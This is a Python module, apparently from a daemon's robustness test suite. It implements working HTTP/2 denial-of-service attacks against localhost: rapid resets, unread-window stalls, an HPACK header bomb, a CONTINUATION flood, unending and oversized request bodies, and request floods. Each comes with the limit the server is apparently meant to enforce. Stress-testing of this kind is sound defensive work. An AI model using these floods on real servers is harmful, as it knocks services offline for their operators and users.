# SPDX-License-Identifier: Apache-2.0
"""Requests of HTTP on the streams of HTTP/2: what wire.py and output.py do to calls of gRPC."""
import base64
import json
import struct
import time

from attack import Attack, Http2

END_STREAM, END_HEADERS = 1, 4


def head(h, path, method=b"GET"):
    return b"".join(h.literal(n, v) for n, v in ((b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost")))


def get(h, path, end=END_STREAM, method=b"GET", fields=b""):
    """The bytes of one request without a body, and its stream."""
    stream, h.next_id = h.next_id, h.next_id + 2
    return h.frame(h.HEADERS, END_HEADERS | end, stream, head(h, path, method) + fields), stream


def again(run):
    """A new connection whenever the daemon has ended the old one."""
    def loop(client):
        while not client.is_over():
            try:
                run(client, Http2(client))
            except OSError:
                continue
    return loop


def resets(path):
    def run(client, h):
        while not client.is_over() and h.next_id < 1 << 22:
            out = b""
            for _ in range(200):
                request, stream = get(h, path)
                out += request + h.frame(h.RST_STREAM, 0, stream, struct.pack("!I", 8))
            h.s.sendall(out)
            h.drain()
    return again(run)


def unread(path, streams=1000):
    """No window for answers, and none of them read."""
    def run(client, h):
        h.s.sendall(h.frame(h.SETTINGS, 0, 0, struct.pack("!HI", 4, 0)))
        for _ in range(streams):
            h.s.sendall(get(h, path)[0])
        while not client.is_over():
            h.s.sendall(h.frame(8, 0, h.next_id - 2, struct.pack("!I", 1)))  # a byte's window
            time.sleep(0.05)
        h.close()
    return again(run)


def bomb(client, h):
    """One entry of 3.9 KiB in the table, then references to it."""
    h.s.sendall(get(h, b"/version", fields=h.literal(b"x", b"v" * 3900, 0x40))[0])
    while not client.is_over() and h.next_id < 20000:
        h.s.sendall(b"".join(get(h, b"/version", fields=b"\xbe" * 6000)[0] for _ in range(20)))
        h.drain()


def continuations(client, h):
    while not client.is_over() and h.next_id < 20000:
        stream, h.next_id = h.next_id, h.next_id + 2
        h.s.sendall(h.frame(h.HEADERS, 0, stream, head(h, b"/version")) + b"".join(h.frame(h.CONTINUATION, 0, stream, b"") for _ in range(5000)))
        h.drain()


def half_bodies(client, h):
    """Bodies that never end, as much of each as the windows allow."""
    for _ in range(1000):
        request, stream = get(h, b"/v3/kv/put", end=0, method=b"POST")
        h.s.sendall(request + h.frame(h.DATA, 0, stream, b"x" * 16384) * 4)
        h.drain()
    while not client.is_over():
        time.sleep(0.05)
    h.close()


def large_bodies(client, h):
    """Puts of 1 MiB as JSON, each on a stream of its own."""
    body = json.dumps({"key": base64.b64encode(b"large").decode(), "value": base64.b64encode(b"v" * 700000).decode()}).encode()
    while not client.is_over() and h.next_id < 20000:
        for _ in range(8):
            request, stream = get(h, b"/v3/kv/put", end=0, method=b"POST")
            pieces = [body[i:i + 16384] for i in range(0, len(body), 16384)]
            h.s.sendall(request + b"".join(h.frame(h.DATA, END_STREAM if i == len(pieces) - 1 else 0, stream, p) for i, p in enumerate(pieces)))
        h.drain()
        h.s.sendall(h.frame(8, 0, 0, struct.pack("!I", 1 << 20)))


def requests(path):
    def run(client, h):
        while not client.is_over() and h.next_id < 1 << 22:
            h.s.sendall(b"".join(get(h, path)[0] for _ in range(100)) + h.frame(8, 0, 0, struct.pack("!I", 1 << 24)))
            h.drain()
    return again(run)


ATTACKS = [
    Attack("h2_resets", "requests of HTTP that are reset at once", "10,000 resets, 1,000/s", resets(b"/metrics")),
    Attack("h2_unread", "1,000 streams that ask for /metrics and have no window", "4 MiB of unread answers a connection, then requests wait",
           unread(b"/metrics")),
    Attack("h2_header_bomb", "6,000 references to a field of 3.9 KiB in each request of HTTP", "64 KiB of fields", again(bomb)),
    Attack("h2_continuations", "5,000 empty CONTINUATION frames in a request of HTTP", "8 CONTINUATION frames", again(continuations), short=False),
    Attack("h2_half_bodies", "1,000 bodies that never end", "256 MiB of incomplete bodies, 20 s", again(half_bodies), short=False),
    Attack("h2_large_bodies", "puts of 1 MiB through the gateway, eight at once", "a stream's window, conversions by a worker", again(large_bodies), short=False),
    Attack("h2_metrics", "/metrics by 100 requests in one write", "time of a turn", requests(b"/metrics"), short=False),
]
